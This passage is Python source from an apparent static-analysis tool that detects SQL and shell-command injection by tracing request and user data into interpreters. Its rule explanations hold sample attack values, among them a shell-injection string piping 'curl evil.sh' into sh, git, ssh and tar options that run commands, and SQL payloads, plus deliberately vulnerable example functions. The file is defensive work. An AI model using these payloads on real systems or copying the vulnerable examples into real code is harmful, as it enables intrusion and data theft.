"""Injection: untrusted or formatted text that reaches an interpreter (SQL, shell, templates,
HTML, LDAP, XPath, MongoDB, regular expressions, format strings) or a redirect.

The rules split on where the text comes from. Request and user data (`ctx.taint` labels
`request` and `user`) reaching an interpreter is reported whatever the shape of the string;
a string that is merely *built* by formatting (label `format`) is reported only where the
hole sits in a value position (after `=`, inside quotes, in `IN (...)`), because formatted
table and column names are how well-reviewed code composes SQL that parameters cannot
express. The helpers at the top (sources, templates, local bindings) are shared with the
deserialization and files families.
"""

from __future__ import annotations

import re
import string
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache

import tree_sitter

from ..context import SCOPE_TYPES, CallSite, Context, TextMatch
from ..flow import (
    FORMAT,
    NETWORK,
    REQUEST,
    REQUEST_ATTRIBUTES,
    ROUTE_DECORATOR,
    SOURCE_CALLS,
    USER,
    assigned_value,
    trace,
)
from ..model import Related
from ..rule import CallRule, Hit, TextRule
from ..statements import mentions_warmer, module_mentions
from ._common import (
    Category,
    Confidence,
    RuleMeta,
    Severity,
    binary_parts,
    call_name,
    describe,
    is_literal_string,
    line_of,
    parameter_annotation,
    related_at,
    scope_text_before,
    simple_assignment,
    statement_of,
    switched_on,
    words,
)

Node = tree_sitter.Node
UNTRUSTED = (REQUEST, USER)


# --------------------------------------------------------------------------------------------
# Shared helpers: where a value comes from, how a string was built, what a name was bound to.


@dataclass(frozen=True)
class Source:
    """The expression where untrusted data entered, for messages and `related` locations."""

    node: Node
    labels: frozenset[str]
    line: int
    text: str

    @property
    def related(self) -> tuple[Related, ...]:
        return (related_at(self.node, f"source: `{self.text}`"),)

    @property
    def kind(self) -> str:
        for label, wording in _LABEL_WORDS:
            if label in self.labels:
                return wording
        return "untrusted data"


_LABEL_WORDS = (
    (REQUEST, "request data"),
    (NETWORK, "data from the network"),
    (USER, "user input"),
    (FORMAT, "a formatted string"),
)


def find_source(ctx: Context, node: Node, labels: tuple[str, ...]) -> Source | None:
    """The expression that brought one of `labels` into `node` (a request read, `input()`).

    A taint's origin is the first expression that carried any label, which for a formatted
    string is the formatting itself; `flow.trace` walks back to the read the reader needs to
    see.
    """
    if ctx.const(node) is not None or not _may_carry(ctx, labels):
        return None
    taint = ctx.taint(node)
    if taint is None or not taint.has(*labels):
        return None
    origin = taint.origin
    for label in labels:
        if label in taint.labels:
            path = trace(ctx, node, label)
            if path:
                origin = path[-1]
                break
    origin = _widen(origin)
    found = frozenset(label for label in labels if taint.has(label))
    return Source(origin, found, line_of(ctx, origin), describe(ctx, origin))


def _may_carry(ctx: Context, labels: tuple[str, ...]) -> bool:
    """Can any of `labels` arise in this module at all? A byte-level pre-filter that spares
    the data-flow pass in the many modules that never touch a request, argv or a socket.
    The patterns are looked for statement by statement (`module_mentions`), so that in the
    editor a keystroke does not scan the whole module again."""
    for label in labels:
        if label == REQUEST and (
            module_mentions(ctx, _REQUEST_READ) or module_mentions(ctx, _ROUTE_PATTERN)
        ):
            return True
        pattern = _source_pattern(label)
        if pattern is None or module_mentions(ctx, pattern):
            return True
    return False


#: `request.args`, `req.json`, `from flask import request as rq`: request reads
_REQUEST_READ = re.compile(
    rb"req(?:uest\s+as\b|(?:uest)?\s*\.\s*(?:"
    + "|".join(sorted(REQUEST_ATTRIBUTES)).encode()
    + rb")\b)"
)
#: functions decorated as web routes receive request data in their parameters
_ROUTE_PATTERN = re.compile(rb"@[\w.]*(?:" + ROUTE_DECORATOR.pattern.encode() + rb")")


@cache
def _source_pattern(label: str) -> re.Pattern[bytes] | None:
    """Words without which no source of `label` can be written, from the flow tables; None
    when the label may arise anywhere.

    Only `request` and `user` are pre-filtered: their sources are few and fixed (request
    attributes, route parameters, `input()`, `sys.argv`), while network sources grow with
    every client library, so a stale word list would silently hide real flows."""
    if label not in {REQUEST, USER}:
        return None
    words = {
        part
        for name, found in SOURCE_CALLS.items()
        if label in found
        for part in name.split(".")
        if part not in _GENERIC_PARTS
    }
    if label == USER:
        words.add("argv")
    return re.compile(b"|".join(re.escape(w.encode()) for w in sorted(words)))


#: components of source names too common to pre-filter on (`sys.stdin.read`)
_GENERIC_PARTS = words(
    "sys read readline get post put patch delete head request open load Session session"
)


def _widen(node: Node) -> Node:
    """`request.args` -> `request.args["q"]` or `request.args.get("q")`, for the message."""
    for _ in range(2):
        parent = node.parent
        if parent is None:
            break
        if _is_field(parent, "value" if parent.type == "subscript" else "function", node) and (
            parent.type in {"subscript", "call"}
        ):
            node = parent
        elif (
            parent.type == "attribute"
            and _is_field(parent, "object", node)
            and parent.parent is not None
            and parent.parent.type == "call"
            and _is_field(parent.parent, "function", parent)
        ):
            node = parent.parent
        else:
            break
    return node


def _is_field(parent: Node, name: str, child: Node) -> bool:
    value = parent.child_by_field_name(name)
    return value is not None and _same(value, child)


def _same(a: Node, b: Node) -> bool:
    return a.start_byte == b.start_byte and a.end_byte == b.end_byte and a.type == b.type


def imports_module(ctx: Context, *prefixes: str) -> bool:
    """Does the module import anything from one of these packages?"""
    for qualified in ctx.imports.bindings.values():
        for prefix in prefixes:
            if qualified == prefix or qualified.startswith(prefix + "."):
                return True
    return False


def last_assignment(ctx: Context, name_node: Node) -> Node | None:
    """The value last bound to a plain name before `name_node`, in the same block chain.

    Looks at earlier statements of the enclosing blocks and at enclosing `with ... as name`
    items; enough to tell `tarfile.open(...)` from `zipfile.ZipFile(...)` or a list literal
    from a string, without a full data-flow pass.
    """
    name = ctx.text(name_node)
    current: Node | None = statement_of(name_node)
    while current is not None and current.type not in SCOPE_TYPES:
        sibling = current.prev_named_sibling
        while sibling is not None:
            value = _binding_in(ctx, sibling, name)
            if value is not None:
                return value
            if sibling.type in _COMPOUND and _rebinds(ctx, sibling, name):
                return None  # bound on some paths only: not known
            sibling = sibling.prev_named_sibling
        parent = current.parent
        if parent is not None and parent.type == "block":
            parent = parent.parent
        if parent is not None and parent.type == "with_statement":
            value = _binding_in(ctx, parent, name)
            if value is not None:
                return value
        current = parent
    return None


_COMPOUND = words(
    """
    if_statement for_statement while_statement try_statement with_statement match_statement
    """
)


def _rebinds(ctx: Context, statement: Node, name: str) -> bool:
    word = re.escape(name)
    pattern = rf"\b{word}\s*[-+*/|&]?=(?!=)|\b(?:as|for)\s+(?:\w+\s*,\s*)*{word}\b"
    return re.search(pattern, ctx.text(statement)) is not None


def _binding_in(ctx: Context, statement: Node, name: str) -> Node | None:
    if statement.type == "expression_statement":
        pair = simple_assignment(statement)
        if pair is not None and ctx.text(pair[0]) == name:
            return pair[1]
    elif statement.type == "with_statement":
        clause = next((c for c in statement.named_children if c.type == "with_clause"), None)
        for item in clause.named_children if clause is not None else []:
            pattern = item.named_children[0] if item.named_children else None
            if pattern is None or pattern.type != "as_pattern":
                continue
            target = pattern.child_by_field_name("alias")
            value = pattern.named_children[0] if pattern.named_children else None
            if target is not None and value is not None and ctx.text(target) == name:
                return value
    return None


_HOLE = "\x00"


@dataclass(frozen=True)
class Hole:
    """One non-constant part of a built string."""

    #: the template's constant text before this hole (earlier holes appear as \x00)
    prefix: str
    #: the expression that fills the hole, None when it cannot be told (`"%s %s" % args`)
    expr: Node | None
    #: the conversion the template asks for (`d` in `%d` or `{:d}`), "" if none
    spec: str = ""


@dataclass
class Template:
    """A string built from constant text and holes, as far as it can be read statically."""

    text: str = ""
    holes: list[Hole] = field(default_factory=list)
    how: str = "string formatting"

    def add_text(self, text: str) -> None:
        self.text += text

    def add_hole(self, expr: Node | None, spec: str = "") -> None:
        self.holes.append(Hole(self.text, expr, spec))
        self.text += _HOLE


_PERCENT_SPEC = re.compile(
    r"%(?:\((?P<key>[^)]*)\))?[-#0 +]*(?:\*|\d+)?(?:\.(?:\*|\d+))?[hlL]?(?P<conv>[a-zA-Z%])"
)


def template_of(ctx: Context, node: Node) -> Template | None:
    """Read an f-string, `%` formatting, `.format()` or `+` concatenation into a Template."""
    out = Template()
    if not _fill(ctx, node, out, top=True):
        return None
    return out


def built_template(ctx: Context, node: Node) -> tuple[Node, Template] | None:
    """The template an expression is written as, or else the one its value was formatted
    from earlier (`query = f"..."; run(query)`), with the expression it was read from."""
    template = template_of(ctx, node)
    if template is not None:
        return node, template
    taint = ctx.taint(node)
    if taint is None or FORMAT not in taint.labels:
        return None
    template = template_of(ctx, taint.origin)
    return None if template is None else (taint.origin, template)


def _fill(ctx: Context, node: Node, out: Template, top: bool = False) -> bool:
    kind = node.type
    if kind == "parenthesized_expression" and len(node.named_children) == 1:
        return _fill(ctx, node.named_children[0], out, top)
    value = ctx.const(node)
    if isinstance(value, str):
        out.add_text(value)
        return True
    if kind in {"string", "concatenated_string"}:
        parts = node.named_children if kind == "concatenated_string" else [node]
        for part in parts:
            _fill_fstring(ctx, part, out)
        if top:
            out.how = "an f-string"
        return True
    if kind == "binary_operator":
        operands = binary_parts(node)
        if operands is None:
            return False
        operator, left, right = operands
        if operator == "%":
            fmt = _constant_text(ctx, left)
            if not isinstance(fmt, str):
                return False
            _fill_percent(ctx, fmt, right, out)
            if top:
                out.how = "`%` formatting"
            return True
        if operator == "+":
            for operand in (left, right):
                if not _fill(ctx, operand, out):
                    out.add_hole(operand)
            if top:
                out.how = "string concatenation"
            return True
        return False
    if kind == "call":
        function = node.child_by_field_name("function")
        if function is None or function.type != "attribute":
            return False
        attr = function.child_by_field_name("attribute")
        receiver = function.child_by_field_name("object")
        if attr is None or receiver is None:
            return False
        method = ctx.text(attr)
        fmt = _constant_text(ctx, receiver) if method in {"format", "format_map"} else None
        if isinstance(fmt, str):
            _fill_format(ctx, fmt, ctx.call_site(node), out, method == "format_map")
            if top:
                out.how = "`.format()`"
            return True
    return False


def _constant_text(ctx: Context, node: Node) -> str | bytes | None:
    """A literal, or a module constant holding one (`QUERY.format(...)`, `SQL % args`)."""
    value = ctx.const(node)
    if value is None and node.type == "identifier" and _CONSTANT_NAME.match(ctx.text(node)):
        bound = assigned_value(ctx, node)
        value = ctx.const(bound) if bound is not None else None
    return value


def _fill_fstring(ctx: Context, node: Node, out: Template) -> None:
    if node.type != "string":
        out.add_hole(node)
        return
    for child in node.named_children:
        if child.type == "string_content":
            out.add_text(_unescape_braces(ctx.text(child)))
        elif child.type == "interpolation":
            expression = child.child_by_field_name("expression")
            spec = next((c for c in child.named_children if c.type == "format_specifier"), None)
            out.add_hole(expression, ctx.text(spec).lstrip(":")[-1:] if spec is not None else "")


def _unescape_braces(text: str) -> str:
    return text.replace("{{", "{").replace("}}", "}")


def _fill_percent(ctx: Context, fmt: str, right: Node, out: Template) -> None:
    values: list[Node] | None = None
    mapping: dict[str, Node] = {}
    if right.type == "tuple":
        values = list(right.named_children)
    elif right.type == "dictionary":
        for pair in right.named_children:
            key = pair.child_by_field_name("key")
            value = pair.child_by_field_name("value")
            label = ctx.const(key) if key is not None else None
            if isinstance(label, str) and value is not None:
                mapping[label] = value
    position = 0
    index = 0
    for match in _PERCENT_SPEC.finditer(fmt):
        out.add_text(fmt[position : match.start()])
        position = match.end()
        conv = match.group("conv")
        if conv == "%":
            out.add_text("%")
            continue
        name = match.group("key")
        expr: Node | None
        if name is not None:
            expr = mapping.get(name)
        elif values is not None:
            expr = values[index] if index < len(values) else None
        else:
            expr = right
        index += 1
        out.add_hole(expr, conv)
    out.add_text(fmt[position:])


def _fill_format(ctx: Context, fmt: str, site: CallSite, out: Template, is_map: bool) -> None:
    try:
        parsed = list(string.Formatter().parse(fmt))
    except ValueError:
        out.add_text(fmt)
        return
    auto = 0
    for literal, field_name, spec, _ in parsed:
        out.add_text(literal)
        if field_name is None:
            continue
        base = re.split(r"[.\[]", field_name, maxsplit=1)[0]
        expr: Node | None = None
        if not is_map:
            if base == "":
                expr = site.arg(auto)
                auto += 1
            elif base.isdigit():
                expr = site.arg(int(base))
            else:
                expr = site.keywords.get(base)
        out.add_hole(expr, (spec or "")[-1:])


# --------------------------------------------------------------------------------------------
# SQL


GH500 = RuleMeta(
    code="GH500",
    name="sql-built-by-formatting",
    category=Category.INJECTION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(89,),
    message=(
        "`{sink}()` runs SQL built with {how} on line {line}: `{hole}` is spliced into a value "
        "position; pass it as a query parameter"
    ),
    why=(
        "Splicing a value into SQL text with an f-string, `%`, `.format()` or `+` lets the value "
        "change the statement: a name such as `x' OR '1'='1` rewrites a WHERE clause, and a "
        "stacked `; DROP TABLE` or a UNION can read or destroy other tables. Every database "
        "driver accepts parameters (`?`, `%s`, `:name`) that send values separately from the "
        "SQL text, so the database never parses them as code. Code assistants write the "
        "formatted version constantly because it reads naturally; it stays exploitable even "
        "when today's caller passes a trusted value, because the function will not know who "
        "calls it tomorrow."
    ),
    example=(
        "def find_user(conn, username):\n"
        "    cur = conn.cursor()\n"
        "    cur.execute(f\"SELECT * FROM users WHERE username = '{username}'\")\n"
        "    return cur.fetchone()"
    ),
    fixed_example=(
        "def find_user(conn, username):\n"
        "    cur = conn.cursor()\n"
        '    cur.execute("SELECT * FROM users WHERE username = ?", (username,))\n'
        "    return cur.fetchone()"
    ),
)

GH501 = RuleMeta(
    code="GH501",
    name="sql-from-untrusted-input",
    category=Category.INJECTION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(89,),
    message="`{sink}()` runs SQL that contains {kind} from `{source}` on line {line}",
    why=(
        "Data from an HTTP request or from the command line flows into the text of a SQL "
        "statement. Whoever sends the request chooses the SQL: they can widen a WHERE clause to "
        "every row, read other tables with UNION, or modify data, and no escaping written by "
        "hand is reliably complete. Values belong in the driver's parameters; names of tables "
        "and columns, which parameters cannot carry, must be checked against a fixed allow-list "
        "before they are placed in the statement."
    ),
    example=(
        "@app.route('/search')\n"
        "def search():\n"
        "    term = request.args['q']\n"
        '    rows = db.execute("SELECT * FROM items WHERE name LIKE \'%" + term + "%\'")\n'
        "    return jsonify(rows.fetchall())"
    ),
    fixed_example=(
        "@app.route('/search')\n"
        "def search():\n"
        "    term = request.args['q']\n"
        '    rows = db.execute("SELECT * FROM items WHERE name LIKE ?", (f"%{term}%",))\n'
        "    return jsonify(rows.fetchall())"
    ),
)

GH502 = RuleMeta(
    code="GH502",
    name="sql-identifier-formatted",
    category=Category.INJECTION,
    severity=Severity.WARNING,
    confidence=Confidence.LOW,
    cwe=(89,),
    message=(
        "`{sink}()` runs SQL whose table or column name `{hole}` is spliced in with {how}; "
        "check it against an allow-list or quote it as an identifier"
    ),
    why=(
        "Parameters cannot carry identifiers, so table and column names are often formatted "
        "into SQL. That is only safe when the name comes from a fixed set: a name taken from a "
        "function argument lets the caller inject anything that fits the position, such as "
        "`users; DROP TABLE users` or a subquery. Compare the name with an explicit allow-list, "
        "or quote it with the driver's identifier quoting (`psycopg.sql.Identifier`, "
        "`connection.ops.quote_name`). This rule is off by default because well-reviewed code "
        "composes identifiers this way from trusted configuration."
    ),
    example=(
        "def count_rows(conn, table):\n"
        '    return conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]'
    ),
    fixed_example=(
        'ALLOWED_TABLES = {"users", "orders"}\n\n'
        "def count_rows(conn, table):\n"
        "    if table not in ALLOWED_TABLES:\n"
        '        raise ValueError(f"unknown table {table!r}")\n'
        '    return conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]'
    ),
    default=False,
)

#: callables that run SQL text given as their first argument (or `sql=`/`query=`)
_SQL_NAMES = words(
    """
    sqlalchemy.text sqlalchemy.sql.text sqlalchemy.sql.expression.text pandas.read_sql
    pandas.read_sql_query django.db.models.expressions.RawSQL django.db.models.RawSQL
    """
)
_SQL_METHODS = words(
    """
    execute executemany executescript mogrify raw read_sql read_sql_query RawSQL exec_driver_sql
    fetch fetchrow fetchval fetch_all fetch_one fetch_val
    """
)
#: sinks that take a fragment of SQL (a condition, an expression), not a whole statement
_FRAGMENT_SINKS = frozenset({"extra", "RawSQL"})
_SQL_KEYWORDS = ("sql", "query", "statement", "operation", "sql_script", "raw_query", "stmt")
_SQL_TEXT = re.compile(
    r"\b(?:select\b[\s\S]*?\bfrom|insert\s+(?:or\s+\w+\s+)?into|update\s+\S+\s+set|delete\s+from"
    r"|where|create\s+(?:temp(?:orary)?\s+)?(?:table|index|view|database|schema|user|trigger)"
    r"|drop\s+(?:table|index|view|database|schema|user)|alter\s+table|truncate\s+table"
    r"|pragma|values\s*\(|order\s+by|group\s+by|having|union\s+select)\b",
    re.IGNORECASE,
)
_NO_PARAMETERS = re.compile(r"\s*(?:pragma|set\s+(?:session\s+)?\w+\s*(?:=|to)\b)", re.IGNORECASE)
#: the hole is a value (compared, inserted, limited), not a table or column name
_VALUE_BEFORE = re.compile(
    r"(?:[=<>]|!=|\b(?:like|ilike|limit|offset|between|in\s*\(|values\s*\(|is|then|else|when)"
    r"|\bin\s*\([^()]*,|\bvalues\s*\([^()]*,)\s*$",
    re.IGNORECASE,
)
#: calls whose result is safe to splice: numbers, quoting helpers, placeholders
_SAFE_CALL = re.compile(
    r"(?:^|\.)(?:int|float|len|bool|abs|round|quote\w*|\w*escape\w*|\w*_quote|qn|"
    r"placeholders?|Identifier|Literal|literal|sql_quote|param\w*)$"
)
_PLACEHOLDER = re.compile(r"""placeholder|qmark|marks\b|["'](?:\?|%s|:\w+)["']|^\w*params?_sql$""")
_CONSTANT_NAME = re.compile(r"^(?:[\w.]*\.)?_?[A-Z][A-Z0-9_]*$")
_NUMERIC_SPECS = frozenset("dioxXeEfFgGcn")


def constant_like(ctx: Context, node: Node, follow: bool = True) -> bool:
    """Parts that no caller controls: literals, UPPER_CASE constants, numbers, translated
    constants, quoting helpers, and names last bound to one of those."""
    kind = node.type
    if kind in {"integer", "float", "true", "false", "none"}:
        return True
    if ctx.const(node) is not None:
        return True
    if kind in {"identifier", "attribute"} and _CONSTANT_NAME.match(ctx.text(node)):
        return True
    if kind == "call":
        function = node.child_by_field_name("function")
        if function is None:
            return False
        callee = ctx.text(function)
        if _SAFE_CALL.search(callee):
            return True
        args = ctx.call_site(node).args
        last = callee.rsplit(".", 1)[-1]
        if last in _TRANSLATION:
            return bool(args) and all(ctx.const(a) is not None for a in args)
        # `name.replace('"', '""')`: the quote-doubling that SQL identifiers and literals use
        return last == "replace" and bool(args) and ctx.const(args[0]) in {"'", '"'}
    if kind == "conditional_expression":
        return all(constant_like(ctx, c, follow) for c in node.named_children[::2])
    if kind == "parenthesized_expression" and len(node.named_children) == 1:
        return constant_like(ctx, node.named_children[0], follow)
    if kind == "identifier" and follow:
        bound = last_assignment(ctx, node)
        return bound is not None and constant_like(ctx, bound, follow=False)
    return False


_TRANSLATION = words(
    """
    _ gettext gettext_lazy ugettext ugettext_lazy pgettext pgettext_lazy ngettext gettext_noop
    N_
    """
)


def _safe_hole(ctx: Context, hole: Hole) -> bool:
    if hole.spec in _NUMERIC_SPECS:
        return True
    if hole.expr is None:
        return False
    if constant_like(ctx, hole.expr) or _numeric_parameter(ctx, hole.expr):
        return True
    return bool(_PLACEHOLDER.search(ctx.text(hole.expr)))


_NUMERIC_ANNOTATION = re.compile(r"^(?:int|float|bool|Decimal|decimal\.Decimal)$")


def _numeric_parameter(ctx: Context, node: Node) -> bool:
    """A parameter annotated `int`/`float`, or a route's `<int:name>`: the framework or the
    type checker keeps text out of it."""
    if node.type != "identifier":
        return False
    annotation = parameter_annotation(ctx, node)
    if annotation is not None:
        return bool(_NUMERIC_ANNOTATION.match(ctx.text(annotation)))
    decorated = ctx.scope_of(node).parent
    if decorated is None or decorated.type != "decorated_definition":
        return False
    converter = re.compile(rf"<(?:int|float|uuid):{re.escape(ctx.text(node))}>")
    return any(
        converter.search(ctx.text(d)) for d in decorated.named_children if d.type == "decorator"
    )


def _in_quotes(prefix: str) -> bool:
    return prefix.count("'") % 2 == 1


@dataclass
class _SqlShape:
    text: str = ""
    value_holes: list[tuple[Hole, Template]] = field(default_factory=list)
    name_holes: list[tuple[Hole, Template]] = field(default_factory=list)


def _sql_shape(ctx: Context, node: Node, quoted_only: bool, depth: int = 0) -> _SqlShape:
    """Where the non-constant parts of a built SQL string sit, following composed fragments."""
    shape = _SqlShape()
    template = template_of(ctx, node)
    if template is None or depth > 4:
        return shape
    shape.text = template.text
    for hole in template.holes:
        if hole.expr is not None:
            inner = ctx.taint(hole.expr)
            if (
                inner is not None
                and FORMAT in inner.labels
                and not _same(inner.origin, node)
                and template_of(ctx, inner.origin) is not None
            ):
                nested = _sql_shape(ctx, inner.origin, quoted_only, depth + 1)
                shape.text += " " + nested.text
                shape.value_holes += nested.value_holes
                shape.name_holes += nested.name_holes
                continue
        if _safe_hole(ctx, hole):
            continue
        if _in_quotes(hole.prefix) or (
            not quoted_only and _VALUE_BEFORE.search(hole.prefix.replace(_HOLE, "x"))
        ):
            shape.value_holes.append((hole, template))
        elif not quoted_only:
            shape.name_holes.append((hole, template))
    return shape


def _sql_argument(ctx: Context, site: CallSite) -> tuple[Node | None, bool]:
    """The SQL text argument and whether parameters are passed alongside it."""
    query = site.arg(0, next((k for k in _SQL_KEYWORDS if k in site.keywords), None))
    if query is None:
        return None, False
    given = site.args[1:2] + [
        site.keywords[k] for k in ("params", "parameters") if k in site.keywords
    ]
    params = any(ctx.text(p) not in {"()", "[]", "{}", "None"} for p in given)
    if site.method in {"read_sql", "read_sql_query"}:
        params = "params" in site.keywords
    return query, params


def _sql_sink(ctx: Context, site: CallSite) -> Iterator[tuple[Node, bool]]:
    if site.method == "extra":
        if not (imports_module(ctx, "django") or ".objects" in ctx.text(site.function)):
            return
        for keyword in ("where", "select", "tables", "order_by"):
            value = site.keywords.get(keyword)
            if value is None:
                continue
            items = value.named_children if value.type in {"list", "tuple"} else [value]
            if value.type == "dictionary":
                items = [p.child_by_field_name("value") or p for p in value.named_children]
            for item in items:
                yield item, "params" in site.keywords
        return
    query, params = _sql_argument(ctx, site)
    if query is None:
        return
    if call_name(ctx, query) in _SQL_NAMES or (
        query.type == "call" and ctx.text(query).split("(", 1)[0].endswith(("text", "RawSQL"))
    ):
        return  # the inner text()/RawSQL() call is a sink of its own
    yield query, params


def _sql_untrusted(ctx: Context, site: CallSite) -> Iterator[Hit]:
    sink = site.method or "execute"
    for query, _ in _sql_sink(ctx, site):
        source = find_source(ctx, query, UNTRUSTED)
        if source is None:
            continue
        taint = ctx.taint(query)
        built = taint is not None and FORMAT in taint.labels
        if not built and (REQUEST not in source.labels or not _looks_like_db(ctx, site)):
            continue  # a whole statement typed by the user is a SQL console, not an injection
        if (
            built
            and site.method not in _FRAGMENT_SINKS
            and not _SQL_TEXT.search(_all_text(ctx, query))
        ):
            continue
        yield Hit.at(
            site.node,
            related=source.related,
            sink=sink,
            kind=source.kind,
            source=source.text,
            line=str(source.line),
        )


_DB_RECEIVER = re.compile(r"(?i)(cur|conn|db|session|engine|database|sql|connection|objects)")


def _looks_like_db(ctx: Context, site: CallSite) -> bool:
    if site.name in _SQL_NAMES:
        return True
    receiver = site.receiver
    return receiver is not None and bool(_DB_RECEIVER.search(ctx.text(receiver)))


def _all_text(ctx: Context, node: Node) -> str:
    taint = ctx.taint(node)
    origin = taint.origin if taint is not None and FORMAT in taint.labels else node
    if node.type in {"string", "concatenated_string", "binary_operator", "call"}:
        origin = node
    return _sql_shape(ctx, origin, quoted_only=False).text


def _sql_formatted(ctx: Context, site: CallSite, identifiers: bool) -> Iterator[Hit]:
    sink = site.method or "execute"
    for query, params in _sql_sink(ctx, site):
        if ctx.const(query) is not None:
            continue
        direct = template_of(ctx, query)
        taint = ctx.taint(query)
        if taint is not None and taint.has(*UNTRUSTED):
            continue  # GH501
        if direct is None and (taint is None or FORMAT not in taint.labels):
            continue
        origin = query if direct is not None or taint is None else taint.origin
        shape = _sql_shape(ctx, origin, quoted_only=params)
        if site.method not in _FRAGMENT_SINKS and not _SQL_TEXT.search(shape.text):
            continue
        if _NO_PARAMETERS.match(shape.text):
            continue  # statements that cannot take parameters: formatting is the only way
        holes = shape.name_holes if identifiers else shape.value_holes
        if not holes or (identifiers and shape.value_holes):
            continue
        hole, template = holes[0]
        yield Hit.at(
            site.node,
            related=(related_at(origin, f"SQL built with {template.how}"),),
            sink=sink,
            how=template.how,
            line=str(line_of(ctx, origin)),
            hole=describe(ctx, hole.expr) if hole.expr is not None else "a value",
        )


def _check_gh500(ctx: Context, site: CallSite) -> Iterator[Hit]:
    return _sql_formatted(ctx, site, identifiers=False)


def _check_gh502(ctx: Context, site: CallSite) -> Iterator[Hit]:
    return _sql_formatted(ctx, site, identifiers=True)


# --------------------------------------------------------------------------------------------
# Commands

GH505 = RuleMeta(
    code="GH505",
    name="command-from-untrusted-input",
    category=Category.INJECTION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(78,),
    message="`{sink}()` runs a command that contains {kind} from `{source}` on line {line}",
    why=(
        "Request or user data is formatted into a shell command line. The shell interprets "
        "`;`, `|`, `&&`, `$(...)` and backticks, so a value such as "
        "`example.com; curl evil.sh | sh` runs the attacker's commands with the server's "
        "privileges. Quoting by hand is fragile. Pass an argument list without `shell=True` "
        "so no shell is involved, keep the program name fixed, and validate the value (for "
        "example with `ipaddress.ip_address` for a host) before it is used."
    ),
    example=(
        "@app.route('/ping')\n"
        "def ping():\n"
        "    host = request.args.get('host')\n"
        "    return os.popen(f'ping -c 1 {host}').read()"
    ),
    fixed_example=(
        "@app.route('/ping')\n"
        "def ping():\n"
        "    host = str(ipaddress.ip_address(request.args.get('host', '')))\n"
        "    out = subprocess.run(['ping', '-c', '1', host], capture_output=True, text=True)\n"
        "    return out.stdout"
    ),
)

GH506 = RuleMeta(
    code="GH506",
    name="command-argument-from-request",
    category=Category.INJECTION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(88,),
    message=(
        "request data from `{source}` on line {line} is passed as an argument to `{program}`; "
        "a value starting with `-` becomes an option"
    ),
    why=(
        "Even without a shell, an argument taken from a request can be read by the program as "
        "an option: `--upload-pack=...` for git, `-o ProxyCommand=...` for ssh, or "
        "`--checkpoint-action=exec=...` for tar all run commands. Put `--` before values that "
        "come from outside so the program stops parsing options, and validate the value's "
        "format (a host, a revision, a file name) before passing it on."
    ),
    example=(
        "@app.post('/clone')\n"
        "def clone():\n"
        "    repo = request.json['url']\n"
        "    subprocess.run(['git', 'clone', repo, '/srv/checkout'], check=True)"
    ),
    fixed_example=(
        "@app.post('/clone')\n"
        "def clone():\n"
        "    repo = request.json['url']\n"
        "    if not repo.startswith('https://'):\n"
        "        abort(400)\n"
        "    subprocess.run(['git', 'clone', '--', repo, '/srv/checkout'], check=True)"
    ),
)

#: functions that hand their command string to a shell
_SHELL_CALLS = words(
    """
    os.system os.popen os.popen2 os.popen3 os.popen4 platform.popen subprocess.getoutput
    subprocess.getstatusoutput commands.getoutput commands.getstatusoutput
    asyncio.create_subprocess_shell popen2.popen2 popen2.popen3 popen2.popen4
    """
)
#: functions that run a program given as an argument list or a string
_PROCESS_CALLS = words(
    """
    subprocess.run subprocess.call subprocess.check_call subprocess.check_output
    subprocess.Popen asyncio.create_subprocess_exec pexpect.spawn pexpect.run
    pexpect.popen_spawn.PopenSpawn sh.Command
    """
)
_SHELLS = words(
    """
    sh bash zsh dash ksh /bin/sh /bin/bash /bin/zsh /usr/bin/bash cmd cmd.exe powershell pwsh
    powershell.exe
    """
)


def _command_sink(ctx: Context, site: CallSite) -> tuple[Node | None, str]:
    """The expression that decides the command and the program name for messages."""
    name = site.name or ""
    if name in _SHELL_CALLS or site.method == "exec_command":
        return site.arg(0, "cmd" if name.startswith(("os.", "platform.")) else "command"), name
    if name.startswith(("os.exec", "os.spawn", "os.posix_spawn")):
        index = 1 if name.startswith("os.spawn") else 0
        return site.arg(index, "path"), name
    if name in _PROCESS_CALLS:
        return site.arg(0, "args"), name
    return None, name


#: programs with options that run commands, read or write arbitrary files (GTFOBins-style)
_OPTION_RISKS = words(
    """
    git hg svn ssh scp sftp rsync tar zip unzip 7z curl wget find xargs env sudo sendmail mail
    mutt awk gawk sed soffice libreoffice chromium google-chrome convert magick gs ghostscript
    ffmpeg docker kubectl pip npm psql mysql tcpdump nmap openssl gpg exiftool pandoc
    wkhtmltopdf
    """
)


def _list_value(ctx: Context, node: Node) -> Node | None:
    if node.type in {"list", "tuple"}:
        return node
    if node.type == "binary_operator":
        left = node.child_by_field_name("left")  # [program, ...] + more_args
        return None if left is None else _list_value(ctx, left)
    if node.type == "identifier":
        bound = last_assignment(ctx, node)
        if bound is not None and bound.type in {"list", "tuple"}:
            return bound
    return None


def _command_untrusted(ctx: Context, site: CallSite) -> Iterator[Hit]:
    command, name = _command_sink(ctx, site)
    if command is None:
        return
    sink = name or site.method or "exec_command"
    shell = (
        name in _SHELL_CALLS
        or site.method == "exec_command"
        or switched_on(ctx, site.keywords.get("shell"))
    )
    items = None if shell else _list_value(ctx, command)
    targets = [command]
    if items is not None:
        elements = [c for c in items.named_children if c.type != "comment"]
        first = ctx.const(elements[0]) if elements else None
        if not (isinstance(first, str) and first.rsplit("/", 1)[-1] in _SHELLS):
            return  # argv without a shell: GH506 looks at the arguments
        targets = elements[2:]
    for target in targets:
        built = _unsplit(ctx, target)
        source = find_source(ctx, built, UNTRUSTED)
        if source is None:
            continue
        taint = ctx.taint(built)
        if taint is not None and FORMAT in taint.labels:
            # a command that *is* request data, unformatted, is a web shell (GH454)
            yield Hit.at(
                site.node,
                related=source.related,
                sink=sink,
                kind=source.kind,
                source=source.text,
                line=str(source.line),
            )
            return


def _unsplit(ctx: Context, node: Node) -> Node:
    """`shlex.split(f"...")` and `f"...".split()`: the command string before it was split."""
    if node.type != "call":
        return node
    site = ctx.call_site(node)
    if site.name == "shlex.split" and site.args:
        return site.args[0]
    if site.method == "split" and site.receiver is not None and not site.args:
        return site.receiver
    return node


def _command_argument(ctx: Context, site: CallSite) -> Iterator[Hit]:
